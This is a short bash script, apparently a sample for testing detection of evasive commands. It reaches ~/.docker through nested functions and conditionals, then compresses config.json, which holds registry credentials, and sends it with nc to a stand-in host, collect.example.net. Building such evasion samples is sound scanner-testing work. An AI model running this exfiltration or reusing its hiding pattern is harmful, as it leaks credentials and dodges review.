#!/usr/bin/env bash
# Evasion: three functions call one another and the last one, inside an if
# and a group, goes to ~/.docker; the caller then sends config.json (the
# registry credentials) to a socket.
step3() { if true; then { cd ~/.docker; }; fi; }
step2() { { step3; }; }
step1() { if [ -n "${HOME:-}" ]; then step2; fi; }

step1
gzip -c config.json | nc collect.example.net 9000
